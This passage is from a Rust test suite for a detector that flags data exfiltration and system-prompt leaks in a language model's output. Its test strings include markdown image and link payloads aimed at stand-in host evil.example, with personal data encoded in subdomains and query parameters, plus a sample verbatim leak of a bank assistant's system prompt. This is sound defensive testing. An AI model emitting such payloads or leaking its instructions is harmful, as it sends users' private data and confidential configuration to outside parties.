            "![a](https://mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example/x.png)".to_owned(),
            "![a](https://john.doe.lives.at.calle.mayor.12.madrid.spain.postcode.28013.phone.612345678.evil.example/x.png)".to_owned(),
            "![a](https://ev%69l.example/x.png?n=ana)".to_owned(),
        ];
        for text in &cases {
            let f = findings("", text);
            assert!(
                f.iter().any(|(k, _)| k.ends_with("IMAGE_EXFILTRATION")),
                "{text:?}: {f:?}"
            );
        }
    }

    #[test]
    fn links_with_data_are_exfiltration_in_every_rendered_form() {
        let data = "QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ";
        for text in [
            format!("[a [b]](https://evil.example/c?d={data})"),
            format!("<https://evil.example/c?d={data}>"),
            format!("[a][r]\n\n> [r]: https://evil.example/c?d={data}"),
            format!("<a href=\"https&#58;//evil.example/c?d={data}\">x</a>"),
            "[a](https://4a6f686e20446f65206c69766573.evil.example/)".to_owned(),
        ] {
            let f = findings("", &text);
            assert!(
                f.iter().any(|(k, _)| k == "LINK_EXFILTRATION"),
                "{text:?}: {f:?}"
            );
        }
    }

    #[test]
    fn the_parser_pass_does_not_report_ordinary_answers() {
        let policy = "[exfiltration]\nallowed_domains = [\"acme.example\"]\n";
        for text in [
            "See [the docs](https://docs.rs/regex/latest/regex/) and <https://example.org/about>.",
            "![logo](https://cdn.acme.example/logo.png?v=3) and ![b](https://img.acme.example/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)",
            "[1]: https://en.wikipedia.org/wiki/Rust_(programming_language)",
            "<a href=\"/relative/path?x=1\">rel</a> <img src=\"data.png\"> <b>bold</b>",
            "Servers: ec2-54-12-33-1.compute-1.amazonaws.com and my-bucket-2024.s3.amazonaws.com/file.pdf",
            "[mail](mailto:ana@example.es) [tel](tel:+34600000000)",
        ] {
            let f = findings(policy, text);
            assert!(f.is_empty(), "{text:?}: {f:?}");
        }
    }

    #[test]
    fn a_construct_found_by_a_pattern_and_the_parser_is_reported_once() {
        let f = findings(
            "",
            "![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)",
        );
        assert_eq!(f.len(), 1, "{f:?}");
    }

    #[test]
    fn prose_about_javascript_is_not_html_injection() {
        assert!(findings("", "In JavaScript: use `onload` handlers carefully.").is_empty());
    }

    #[test]
    fn policy_canary_is_a_leak() {
        let f = findings(
            "[exfiltration]\ncanary_tokens = [\"CANARY-7f3a9c\"]\n",
            "the secret is CANARY-7f3a9c.",
        );
        assert_eq!(
            f,
            vec![("SYSTEM_PROMPT_LEAK".into(), "CANARY-7f3a9c".into())]
        );
    }

    #[test]
    fn input_direction_is_not_inspected() {
        let d = ExfiltrationDetector::new(&ExfiltrationPolicy::default()).unwrap();
        let mut out = Detections::default();
        let text = "<script>x</script>";
        d.detect(
            &Normalized::new(text),
            &Context::input(rampart_core::Role::User),
            &mut out,
        )
        .unwrap();
        assert!(out.findings.is_empty());
    }

    #[test]
    fn verbatim_system_prompt_run_is_a_leak_and_paraphrase_is_not() {
        let mut session = Session::new();
        session.remember_system_prompt(
            "You are Orca, the support assistant of Acme Bank. Never discuss interest rates \
             with customers and always refer them to a human advisor when they ask about loans.",
        );
        let leak = "Sure! My instructions: you are Orca, the support assistant of Acme Bank. \
                    Never discuss interest rates with customers and always refer them to a human \
                    advisor. Anything else?";
        let mut out = Detections::default();
        session_leaks(&Normalized::new(leak), &session, 20, &mut out);
        assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
        let f = &out.findings[0];
        let value: String = leak.chars().skip(f.start).take(f.end - f.start).collect();
        assert_eq!(
            value,
            "you are Orca, the support assistant of Acme Bank. Never discuss interest rates with customers and always refer them to a human advisor"
        );
        let mut out = Detections::default();
        session_leaks(
            &Normalized::new("I am a support assistant at a bank and cannot discuss rates."),
            &session,
            20,
            &mut out,
        );
        assert!(out.findings.is_empty());
    }

    #[test]
    fn pending_tail_holds_only_the_open_construct() {
        let d = ExfiltrationDetector::new(&ExfiltrationPolicy::default()).unwrap();
        let ctx = Context::output();
        let closed = format!("{} and a sentence that ends.", "word ".repeat(200));
        assert_eq!(d.pending_tail(&closed, &ctx), "ends.".len());
        let open = format!("{}![img](https://evil.example/?q=abc", "word ".repeat(200));
        assert_eq!(
            d.pending_tail(&open, &ctx),
            "![img](https://evil.example/?q=abc".len()
        );
        let open_tag = format!("{}<img alt=\"a b\" src=", "word ".repeat(200));
        assert_eq!(
            d.pending_tail(&open_tag, &ctx),
            "<img alt=\"a b\" src=".len()
        );
        // A second `<` inside an open tag does not close the first: hold from the first.
        let nested = format!("{}<a title=x <b c=", "word ".repeat(200));
        assert_eq!(d.pending_tail(&nested, &ctx), "<a title=x <b c=".len());
        let after_close = format!("{}<b>bold</b> then <a title=x <b c=", "word ".repeat(200));
        assert_eq!(d.pending_tail(&after_close, &ctx), "<a title=x <b c=".len());
    }
}
